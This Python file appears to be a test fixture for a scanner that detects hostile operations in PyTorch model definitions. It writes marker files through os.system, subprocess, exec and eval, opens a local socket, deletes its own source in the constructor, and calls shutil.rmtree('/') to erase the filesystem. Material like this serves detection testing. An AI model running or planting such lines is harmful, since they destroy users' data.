# hostile: model M total=9
import torch
import torch.nn as nn
import os
import socket
import subprocess
import shutil

open('PWNED_open', 'w').write('x')
os.system('touch PWNED_system')
subprocess.run(['touch', 'PWNED_subprocess'])
__import__('os').system('touch PWNED_dunder_import')
exec("open('PWNED_exec', 'w')")
eval("open('PWNED_eval', 'w')")
compile('x = 1', 'f', 'exec')
socket.create_connection(('127.0.0.1', 9))
os.makedirs('PWNED_dir')
shutil.rmtree('/')
torch.save({}, 'PWNED_torch')


class M(nn.Module):
    def __init__(self):
        super().__init__()
        open('PWNED_init', 'w').write('x')
        os.remove(__file__)
        __import__('sys').exit(3)
        self.fc = nn.Linear(2, 3)
